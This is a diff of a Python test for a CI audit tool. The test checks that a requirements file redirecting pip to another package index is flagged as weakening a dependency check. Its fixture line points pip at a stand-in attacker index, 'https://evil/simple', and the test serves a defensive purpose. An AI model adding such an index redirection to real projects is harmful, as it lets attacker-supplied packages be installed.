@@ -241,8 +241,8 @@ def test_a_job_may_have_another_name_as_long_as_no_other_takes_that_of_its_check
 def test_a_file_of_requirements_that_leads_to_another_index() -> None:
     listed = CALL.replace(INSTALL, "pip install -r ci.txt")
     before = audited(listed, ci_txt="dodcheck==0.1.0 --hash=sha256:0\n")
-    after = audited(listed, ci_txt="--index-url https://evil/simple\ndodcheck==0.1.0 --hash=sha256:1\n")
+    after = audited(listed, ci_txt="-i https://evil/simple\ndodcheck==0.1.0 --hash=sha256:1\n")
     assert [one.message for one in weakening_findings(before, after)] == [
-        "what `dodcheck claims` finds depends on `--index-url https://evil/simple` from now on"
+        "what `dodcheck claims` finds depends on `-i https://evil/simple` from now on"
     ]
     assert weakening_findings(before, audited(listed, ci_txt="dodcheck==0.2.0 --hash=sha256:1\n")) == ()
